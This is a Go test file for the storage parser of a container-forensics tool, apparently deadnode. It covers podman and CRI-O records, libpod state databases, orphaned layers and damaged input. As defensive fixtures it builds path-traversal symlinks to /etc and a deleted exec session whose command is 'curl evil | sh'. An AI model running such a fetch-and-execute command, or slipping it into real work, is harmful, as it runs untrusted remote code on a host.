package storage

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"

	"github.com/deadnode/deadnode/evidence"
	"github.com/deadnode/deadnode/forensics/model"
	bolt "go.etcd.io/bbolt"
)

// tree writes files (symlinks for values starting with "->", directories
// for names ending in "/") below dir.
func tree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		switch {
		case strings.HasPrefix(content, "->"):
			if err := os.Symlink(content[2:], p); err != nil {
				t.Fatal(err)
			}
		case strings.HasSuffix(name, "/"):
			if err := os.MkdirAll(p, 0o755); err != nil {
				t.Fatal(err)
			}
		default:
			if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

const g = "var/lib/containers/storage/"

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// store is a graph root with one image layer "base" and a container layer
// "L-<id>" per container, each with a lower file and l/ links.
func store(t *testing.T, ids ...string) map[string]string {
	layers := []map[string]any{{"id": "base", "diff-digest": "sha256:" + strings.Repeat("1", 64), "diff-size": 10}}
	f := map[string]string{
		g + "overlay/base/diff/":         "",
		g + "overlay/base/link":          "BASE",
		g + "overlay/l/BASE":             "->../base/diff",
		"etc/shadow":                     "root:secret",
		g + "overlay-images/images.json": mustJSON(t, []map[string]any{{"id": strings.Repeat("9", 64), "digest": "sha256:" + strings.Repeat("8", 64), "names": []string{"img:1"}, "layer": "base"}}),
	}
	for _, id := range ids {
		l := "L-" + id
		layers = append(layers, map[string]any{"id": l, "parent": "base"})
		f[g+"overlay/"+l+"/diff/"] = ""
		f[g+"overlay/"+l+"/lower"] = "l/BASE"
	}
	f[g+"overlay-layers/layers.json"] = mustJSON(t, layers)
	return f
}

func ctrRecord(id, metadata string) map[string]any {
	return map[string]any{"id": id, "names": []string{"n-" + id}, "image": strings.Repeat("9", 64), "layer": "L-" + id, "metadata": metadata, "created": "2026-01-01T00:00:00Z"}
}

func openStore(t *testing.T, files map[string]string) *Store {
	t.Helper()
	dir := t.TempDir()
	tree(t, dir, files)
	return openStoreDir(t, dir)
}

// openStoreDir reads the store of an evidence directory already made.
func openStoreDir(t *testing.T, dir string) *Store {
	t.Helper()
	src, err := evidence.OpenDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { src.Close() })
	s, err := Open(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func find(s *Store, id string) *model.Container {
	for i := range s.Containers {
		if s.Containers[i].ID == id {
			return &s.Containers[i]
		}
	}
	return nil
}

func hasWarning(ws []evidence.Warning, subs ...string) bool {
	for _, w := range ws {
		ok := true
		for _, s := range subs {
			ok = ok && strings.Contains(w.String(), s)
		}
		if ok {
			return true
		}
	}
	return false
}

func TestHostileStorage(t *testing.T) {
	outside := t.TempDir()
	f := store(t, "good", "abs", "dotdot", "hostabs", "badlower", "badmeta", "lost")
	f[g+"overlay/l/ABS"] = "->/etc"
	f[g+"overlay/l/DOTDOT"] = "->../../../../../../../etc"
	f[g+"overlay/l/HOST"] = "->" + outside
	f[g+"overlay/L-abs/lower"] = "l/ABS"
	f[g+"overlay/L-dotdot/lower"] = "l/DOTDOT"
	f[g+"overlay/L-hostabs/lower"] = "l/HOST"
	f[g+"overlay/L-badlower/lower"] = "../../../../etc"
	recs := []map[string]any{ctrRecord("good", ""), ctrRecord("abs", ""), ctrRecord("dotdot", ""), ctrRecord("hostabs", ""), ctrRecord("badlower", ""), ctrRecord("badmeta", `{"pod-name": tru`)}
	list := mustJSON(t, recs)
	// Torn: the last record is cut in the middle.
	lost := mustJSON(t, ctrRecord("lost", ""))
	f[g+"overlay-containers/containers.json"] = list[:len(list)-1] + "," + lost[:len(lost)/2]
	s := openStore(t, f)
	if len(s.Containers) != 6 {
		t.Fatalf("%d containers: %+v", len(s.Containers), s.Containers)
	}
	if !hasWarning(s.Warnings, "/var/lib/containers/storage/overlay-containers/containers.json", "record 6: the list is torn (ends inside a record); 6 records read before it") {
		t.Errorf("warnings %q", s.Warnings)
	}
	base := "/var/lib/containers/storage/overlay/base/diff"
	for _, c := range s.Containers {
		for _, d := range append([]string{c.UpperDir}, c.LowerDirs...) {
			if d != "" && !strings.HasPrefix(d, "/var/lib/containers/storage/overlay/") || strings.Contains(d, outside) {
				t.Errorf("%s: directory %q outside overlay/", c.ID, d)
			}
		}
		if c.UpperDir != "/var/lib/containers/storage/overlay/L-"+c.ID+"/diff" || !reflect.DeepEqual(c.LowerDirs, []string{base}) {
			t.Errorf("%s: upper %s lowers %v", c.ID, c.UpperDir, c.LowerDirs)
		}
		if !hasWarning(c.Warnings, "no libpod state database and no CRI-O metadata") || c.Status.State != model.StateUnknown {
			t.Errorf("%s: warnings %q state %s", c.ID, c.Warnings, c.Status.State)
		}
	}
	if w := find(s, "good").Warnings; len(w) != 1 {
		t.Errorf("good: %q", w)
	}
	for id, why := range map[string]string{
		"abs":      "link l/ABS -> /etc leaves /var/lib/containers/storage/overlay (resolves to /etc); refused",
		"dotdot":   "link l/DOTDOT -> ../../../../../../../etc leaves /var/lib/containers/storage/overlay (resolves to /etc); refused",
		"hostabs":  "link l/HOST -> " + outside + " leaves /var/lib/containers/storage/overlay",
		"badlower": `/var/lib/containers/storage/overlay/L-badlower/lower: offset 0: lower file: lower entry "../../../../etc" is not an l/<short> link name`,
	} {
		if c := find(s, id); !hasWarning(c.Warnings, why, "lower directories computed from layers.json") {
			t.Errorf("%s: warnings %q, want %q", id, c.Warnings, why)
		}
	}
	if c := find(s, "badmeta"); !hasWarning(c.Warnings, "container badmeta: metadata JSON: offset 16: torn") {
		t.Errorf("badmeta: %q", c.Warnings)
	}
}

// writeLibpodDB writes a libpod bolt state database.
func writeLibpodDB(t *testing.T, file string, ctrs map[string][2]string, pods map[string][3]string, podMembers map[string][]string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	db, err := bolt.Open(file, 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	err = db.Update(func(tx *bolt.Tx) error {
		all, _ := tx.CreateBucketIfNotExists([]byte(bktAllCtrs))
		cb, _ := tx.CreateBucketIfNotExists([]byte(bktCtr))
		pb, _ := tx.CreateBucketIfNotExists([]byte(bktPod))
		for id, cs := range ctrs {
			all.Put([]byte(id), []byte("n-"+id))
			b, err := cb.CreateBucket([]byte(id))
			if err != nil {
				return err
			}
			b.Put([]byte(keyConfig), []byte(cs[0]))
			b.Put([]byte(keyState), []byte(cs[1]))
		}
		for id, ps := range pods {
			b, err := pb.CreateBucket([]byte(id))
			if err != nil {
				return err
			}
			b.Put([]byte(keyConfig), []byte(ps[0]))
			b.Put([]byte(keyState), []byte(ps[1]))
			mb, _ := b.CreateBucket([]byte(keyPodContainer))
			for _, m := range podMembers[id] {
				mb.Put([]byte(m), []byte(m))
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestStorageLibpodPod(t *testing.T) {
	f := store(t, "infra", "web", "gone")
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("infra", ""), ctrRecord("web", "")})
	dir := t.TempDir()
	tree(t, dir, f)
	writeLibpodDB(t, filepath.Join(dir, g, "libpod", boltStateFile), map[string][2]string{
		"infra": {`{"id":"infra","name":"p1-infra","pod":"P1","pause":true,"createdTime":"2026-01-01T00:00:00Z"}`, `{"state":3,"pid":100,"startedTime":"2026-01-01T00:00:01Z"}`},
		"web":   {`{"id":"web","name":"p1-web","pod":"P1","rootfsImageName":"img:1","labels":{"a":"b"},"privileged":true}`, `{"state":6,"exited":true,"exitCode":2,"startedTime":"2026-01-01T00:00:02Z","finishedTime":"2026-01-01T00:00:03Z","oomKilled":true}`},
		"gone":  {`{"id":"gone","name":"p1-gone","pod":"P2"}`, `{"state":2}`},
	}, map[string][3]string{"P1": {`{"id":"P1","name":"p1","namespace":"ns1","created":"2026-01-01T00:00:00Z","labels":{"x":"y"}}`, `{"infraContainerID":"infra","cgroupPath":"/pods/p1"}`}}, map[string][]string{"P1": {"infra", "web"}})
	src, err := evidence.OpenDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	s, err := Open(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	infra, web, gone := find(s, "infra"), find(s, "web"), find(s, "gone")
	if infra.Kind != model.KindSandbox || infra.SandboxID != "infra" || infra.Status.State != model.StateRunning || infra.Status.Pid != 100 || infra.ContainerName != "p1-infra" {
		t.Errorf("infra %+v", infra)
	}
	if web.Kind != model.KindContainer || web.SandboxID != "infra" || !reflect.DeepEqual(web.Pod, &model.PodRef{Namespace: "ns1", Name: "p1", UID: "P1"}) ||
		web.Status.State != model.StateExited || *web.Status.ExitCode != 2 || web.Status.Reason != "OOMKilled" || web.Image != "img:1" || web.Labels["a"] != "b" {
		t.Errorf("web %+v", web)
	}
	if gone == nil || !hasWarning(gone.Warnings, "in libpod's state database but not in containers.json") || !hasWarning(gone.Warnings, "pod P2 is not in libpod's state database") || gone.Status.State != model.StateCreated {
		t.Errorf("gone %+v", gone)
	}
	var p1 *model.Pod
	for i := range s.Pods {
		if s.Pods[i].UID == "P1" {
			p1 = &s.Pods[i]
		}
	}
	if p1 == nil || p1.Name != "p1" || p1.Namespace != "ns1" || p1.SandboxID != "infra" || p1.State != model.StateRunning || p1.CgroupParent != "/pods/p1" ||
		!reflect.DeepEqual(p1.Containers, []model.PodContainer{{ID: "web", Name: "p1-web", Image: "img:1", State: "exited"}}) {
		t.Errorf("pods %+v", s.Pods)
	}
}

// A live exec session (still in the exec bucket) and a deleted one whose
// record is only in a free page.
func TestStorageExecSessions(t *testing.T) {
	f := store(t, "a")
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("a", "")})
	dir := t.TempDir()
	tree(t, dir, f)
	file := filepath.Join(dir, g, "libpod", boltStateFile)
	liveID, goneID, ctr := strings.Repeat("1", 64), strings.Repeat("2", 64), strings.Repeat("c", 64)
	rec := func(id string, state, pid int, cmd string) []byte {
		// In libpod's field order (a struct, not a map).
		return []byte(`{"id":"` + id + `","containerId":"` + ctr + `","state":` + fmt.Sprint(state) + `,"pid":` + fmt.Sprint(pid) + `,"config":{"command":` + mustJSON(t, []string{"sh", "-c", cmd}) + `,"user":"0","privileged":true}}`)
	}
	writeLibpodDB(t, file, map[string][2]string{"a": {`{"id":"a","name":"a"}`, `{"state":3,"pid":7}`}}, nil, nil)
	db, err := bolt.Open(file, 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = db.Update(func(tx *bolt.Tx) error {
		xb, _ := tx.CreateBucketIfNotExists([]byte(bktExec))
		xb.Put([]byte(liveID), []byte("a"))
		xb.Put([]byte(goneID), []byte("a"))
		cb := tx.Bucket([]byte(bktCtr)).Bucket([]byte("a"))
		eb, _ := cb.CreateBucketIfNotExists([]byte("exec"))
		eb.Put([]byte(liveID), rec(liveID, 2, 4242, "id"))
		eb.Put([]byte(goneID), rec(goneID, 3, 0, "curl evil | sh"))
		return nil
	})
	if err == nil {
		err = db.Update(func(tx *bolt.Tx) error {
			tx.Bucket([]byte(bktExec)).Delete([]byte(goneID))
			return tx.Bucket([]byte(bktCtr)).Bucket([]byte("a")).Bucket([]byte("exec")).Delete([]byte(goneID))
		})
	}
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	src, err := evidence.OpenDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	s, err := Open(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	var live, gone []ExecSession
	for _, x := range s.Execs {
		switch x.ID {
		case liveID:
			live = append(live, x)
		case goneID:
			gone = append(gone, x)
		}
	}
	if len(live) == 0 || !live[0].Live || live[0].Pid != 4242 || live[0].State != "running" || !reflect.DeepEqual(live[0].Command, []string{"sh", "-c", "id"}) || !live[0].Privileged {
		t.Errorf("live sessions %+v", live)
	}
	if len(gone) == 0 || gone[0].Live || gone[0].State != "stopped" || !reflect.DeepEqual(gone[0].Command, []string{"sh", "-c", "curl evil | sh"}) || gone[0].ContainerID != ctr {
		t.Errorf("deleted sessions %+v (all %+v)", gone, s.Execs)
	}
}

func TestStorageTornBoltDB(t *testing.T) {
	for _, tc := range []struct {
		name   string
		damage func(b []byte) []byte
	}{
		{"truncated", func(b []byte) []byte { return b[:len(b)/3] }},
		{"pages overwritten", func(b []byte) []byte {
			for i := 4096 * 2; i < len(b); i++ {
				b[i] = 0xff
			}
			return b
		}},
		{"meta pages zeroed", func(b []byte) []byte {
			for i := 0; i < 8192 && i < len(b); i++ {
				b[i] = 0
			}
			return b
		}},
		{"not a database", func(b []byte) []byte { return []byte("SQLite format 3\x00") }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := store(t, "a")
			f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("a", "")})
			dir := t.TempDir()
			tree(t, dir, f)
			db := filepath.Join(dir, g, "libpod", boltStateFile)
			ctrs := map[string][2]string{}
			for i := 0; i < 200; i++ {
				id := strings.Repeat("c", 10) + string(rune('a'+i%26)) + strings.Repeat("x", i%7) + string(rune('0'+i%10)) + string(rune('a'+i/26))
				ctrs[id] = [2]string{`{"id":"` + id + `","name":"` + strings.Repeat("n", 300) + `"}`, `{"state":3,"pid":1}`}
			}
			ctrs["a"] = [2]string{`{"id":"a","name":"a"}`, `{"state":3,"pid":7}`}
			writeLibpodDB(t, db, ctrs, nil, nil)
			b, err := os.ReadFile(db)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(db, tc.damage(b), 0o600); err != nil {
				t.Fatal(err)
			}
			src, err := evidence.OpenDir(dir)
			if err != nil {
				t.Fatal(err)
			}
			defer src.Close()
			s, err := Open(src, nil)
			if err != nil {
				t.Fatal(err)
			}
			a := find(s, "a")
			t.Logf("state db %q warnings %q", s.StateDB, s.Warnings)
			if a == nil || a.UpperDir == "" {
				t.Fatalf("container a not read: %+v", s.Containers)
			}
			if s.StateDB == "" {
				if !hasWarning(s.Warnings, "libpod state unread", "/var/lib/containers/storage/libpod/bolt_state.db") || a.Status.State != model.StateUnknown ||
					!hasWarning(a.Warnings, "libpod's state database is unreadable") {
					t.Errorf("warnings %q state %s", s.Warnings, a.Status.State)
				}
			} else if a.Status.State != model.StateRunning || a.Status.Pid != 7 {
				// bbolt read what it could: what it returned must be right.
				t.Errorf("a %+v", a.Status)
			}
		})
	}
}

func TestStorageCRIO(t *testing.T) {
	f := store(t, "sb", "app")
	sbMeta := mustJSON(t, map[string]any{"pod": true, "pod-name": "web-1", "pod-id": "sb", "name": "k8s_POD_web-1_shop_u-1_0", "metadata-name": "web-1", "uid": "u-1", "namespace": "shop", "created-at": 1767225600, "image-name": "pause:3.9"})
	appMeta := mustJSON(t, map[string]any{"pod-name": "web-1", "pod-id": "sb", "name": "k8s_app_web-1_shop_u-1_3", "metadata-name": "app", "created-at": 1767225601, "attempt": 3, "image-name": "app:1", "privileged": true})
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("sb", sbMeta), ctrRecord("app", appMeta)})
	r := "run/containers/storage/overlay-containers/"
	f[g+"overlay-containers/app/userdata/config.json"] = mustJSON(t, map[string]any{
		"process": map[string]any{"args": []string{"/app"}, "cwd": "/"},
		"annotations": map[string]string{"io.kubernetes.cri-o.ContainerType": "container", "io.kubernetes.cri-o.SandboxID": "sb", "io.kubernetes.pod.namespace": "shop",
			"io.kubernetes.pod.uid": "u-1", "io.kubernetes.cri-o.LogPath": "/var/log/pods/shop_web-1_u-1/app/3.log", "io.kubernetes.cri-o.Labels": `{"io.kubernetes.container.name":"app"}`},
	})
	f[r+"app/userdata/state.json"] = `{"status":"stopped","pid":0,"created":"2026-01-01T00:00:01Z","started":"2026-01-01T00:00:02Z","finished":"2026-01-01T00:00:05Z","exitCode":1}`
	f[r+"sb/userdata/state.json"] = `{"status":"running","pid":4242,"started":"2026-01-01T00:00:00Z"}`
	// A third container: state.json still says running, but conmon wrote
	// its exit file.
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("sb", sbMeta), ctrRecord("app", appMeta), ctrRecord("late", appMeta)})
	f[g+"overlay/L-late/diff/"] = ""
	f[g+"overlay/L-late/lower"] = "l/BASE"
	layers := []map[string]any{{"id": "base"}, {"id": "L-sb", "parent": "base"}, {"id": "L-app", "parent": "base"}, {"id": "L-late", "parent": "base"}}
	f[g+"overlay-layers/layers.json"] = mustJSON(t, layers)
	f[r+"late/userdata/state.json"] = `{"status":"running","pid":77,"started":"2026-01-01T00:00:00Z"}`
	f["run/crio/exits/late"] = "143"
	f["run/crio/exits/app"] = "1\n"
	s := openStore(t, f)
	sb, app := find(s, "sb"), find(s, "app")
	if sb.Runtime != model.RuntimeCRIO || sb.Kind != model.KindSandbox || sb.SandboxID != "sb" || sb.Status.State != model.StateRunning || sb.Status.Pid != 4242 ||
		!reflect.DeepEqual(sb.Pod, &model.PodRef{Namespace: "shop", Name: "web-1", UID: "u-1"}) || sb.CreatedAt.String() != "2026-01-01T00:00:00.000000000Z" {
		t.Errorf("sandbox %+v", sb)
	}
	if app.Runtime != model.RuntimeCRIO || app.Kind != model.KindContainer || app.ContainerName != "app" || app.Attempt != 3 || app.SandboxID != "sb" ||
		app.Status.State != model.StateExited || *app.Status.ExitCode != 1 || app.LogPath != "/var/log/pods/shop_web-1_u-1/app/3.log" ||
		!reflect.DeepEqual(app.Pod, &model.PodRef{Namespace: "shop", Name: "web-1", UID: "u-1"}) || app.Labels["io.kubernetes.container.name"] != "app" ||
		app.Spec == nil || !app.Spec.Privileged || !reflect.DeepEqual(app.Status.Sources, []string{"/run/containers/storage/overlay-containers/app/userdata/state.json", "/run/crio/exits/app"}) {
		t.Errorf("app %+v", app)
	}
	late := find(s, "late")
	if late.Status.State != model.StateExited || *late.Status.ExitCode != 143 || late.Status.Pid != 0 || late.Status.FinishedAt.IsZero() ||
		!reflect.DeepEqual(late.Status.Sources, []string{"/run/containers/storage/overlay-containers/late/userdata/state.json", "/run/crio/exits/late"}) {
		t.Errorf("late %+v", late.Status)
	}
	if len(s.Pods) != 1 || s.Pods[0].Runtime != model.RuntimeCRIO || s.Pods[0].SandboxID != "sb" || s.Pods[0].State != model.StateRunning ||
		!reflect.DeepEqual(s.Pods[0].Containers, []model.PodContainer{{ID: "app", Name: "app", Image: "app:1", State: "exited"}, {ID: "late", Name: "app", Image: "app:1", State: "exited"}}) {
		t.Errorf("pods %+v", s.Pods)
	}
	if s.Images[0].Runtime != model.RuntimeCRIO || !reflect.DeepEqual(s.Namespaces, []model.Namespace{{Runtime: "cri-o", Labels: map[string]string{}, Containers: 2, Sandboxes: 1, Images: 1, Snapshots: 4}}) {
		t.Errorf("images %+v namespaces %+v", s.Images, s.Namespaces)
	}
}

// What a removal left behind: a layer directory and a container's userdata
// that no record refers to.
func TestStorageOrphans(t *testing.T) {
	f := store(t, "a")
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("a", "")})
	f[g+"overlay/removed/diff/evil"] = "x"
	f[g+"overlay-containers/a/userdata/ctr.log"] = "kept"
	f[g+"overlay-containers/gone/userdata/ctr.log"] = "left behind"
	s := openStore(t, f)
	want := []Orphan{
		{Runtime: "podman", Path: "/var/lib/containers/storage/overlay/removed", Why: "layer directory not in layers.json"},
		{Runtime: "podman", Path: "/var/lib/containers/storage/overlay-containers/gone", Why: "container directory of a container not in containers.json"},
	}
	got := append([]Orphan(nil), s.Orphans...)
	for i := range got {
		if got[i].Mtime.IsZero() {
			t.Errorf("orphan %s has no mtime", got[i].Path)
		}
		got[i].Mtime = model.Time{}
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("orphans %+v", s.Orphans)
	}
}

func TestStorageRootless(t *testing.T) {
	f := map[string]string{}
	for k, v := range store(t, "a") {
		f["home/alice/.local/share/containers/storage/"+strings.TrimPrefix(k, g)] = v
	}
	f["home/alice/.local/share/containers/storage/overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("a", "")})
	dir := t.TempDir()
	tree(t, dir, f)
	src, err := evidence.OpenDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	all, err := OpenAll(src, nil)
	if err != nil || len(all) != 1 {
		t.Fatalf("%v %v", all, err)
	}
	s := all[0]
	if s.GraphRoot != "/home/alice/.local/share/containers/storage" || len(s.Containers) != 1 || s.Containers[0].UpperDir != "/home/alice/.local/share/containers/storage/overlay/L-a/diff" ||
		!reflect.DeepEqual(s.Notes, []string{"rootless store of /home/alice"}) {
		t.Errorf("store %s %+v %q", s.GraphRoot, s.Containers, s.Notes)
	}
}

// A list file past maxListJSON (a sparse 600 MiB containers.json here) is
// read up to the bound, with a warning, never whole: one record of it is
// held in memory while it is decoded.
func TestListFileOverBound(t *testing.T) {
	dir := t.TempDir()
	tree(t, dir, store(t))
	p := filepath.Join(dir, g+"overlay-containers/containers.json")
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(`[{"id":"big","metadata":"`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(p, 600<<20); err != nil {
		t.Fatal(err)
	}
	s := openStoreDir(t, dir)
	want := "/" + g + "overlay-containers/containers.json: 629145600 bytes, more than the 536870912 read: the records past that are not read"
	found := false
	for _, w := range s.Warnings {
		found = found || w.String() == want
	}
	if !found || len(s.Containers) != 0 {
		t.Errorf("%d containers, warnings %v", len(s.Containers), s.Warnings)
	}
}

// Carving exec sessions from a file of torn candidates reads a few bytes
// of each, not up to 16 MiB: 2 MiB of markers allocated gigabytes (each
// candidate read up to the end) and took seconds, 16 MiB minutes.
func TestExecCarveTornCandidatesCheap(t *testing.T) {
	dir := t.TempDir()
	one := []byte(`{"id":"` + strings.Repeat("a", 64) + `","containerId":"`)
	n := 2 << 20 / len(one)
	if err := os.WriteFile(filepath.Join(dir, "db"), bytes.Repeat(one, n), 0o644); err != nil {
		t.Fatal(err)
	}
	src, err := evidence.OpenDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	xs, torn, err := carveExecSessions(src, "db", nil)
	runtime.ReadMemStats(&after)
	if err != nil || len(xs) != 0 || torn != n {
		t.Errorf("%d sessions, %d torn (want %d), %v", len(xs), torn, n, err)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 256<<20 {
		t.Errorf("carving allocated %d MiB", grew>>20)
	}
}

// An image id listed twice in images.json is kept once, with a warning, as
// layers.json and containers.json have it: both records were kept, the
// second naming another image; and a container pointed at another's layer
// is said to share it.
func TestStorageDuplicateImageAndSharedLayer(t *testing.T) {
	f := store(t, "a", "b")
	ra, rb := ctrRecord("a", ""), ctrRecord("b", "")
	rb["layer"] = "L-a"
	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ra, rb})
	id := strings.Repeat("9", 64)
	f[g+"overlay-images/images.json"] = mustJSON(t, []map[string]any{{"id": id, "names": []string{"img:1"}, "layer": "base"}, {"id": id, "names": []string{"evil:2"}, "layer": "base"}})
	s := openStore(t, f)
	n := 0
	for _, r := range s.ImageRecords {
		if r.ID == id {
			n++
			if len(r.Names) != 1 || r.Names[0] != "img:1" {
				t.Errorf("kept %v", r.Names)
			}
		}
	}
	if n != 1 || !strings.Contains(fmt.Sprint(s.Warnings), "image "+id+" listed twice; the first is kept") {
		t.Errorf("%d records of %s, warnings %v", n, id, s.Warnings)
	}
	for _, c := range s.Containers {
		if !strings.Contains(fmt.Sprint(c.Warnings), "is also that of container") {
			t.Errorf("%s: upper %s, warnings %v", c.ID, c.UpperDir, c.Warnings)
		}
	}
}
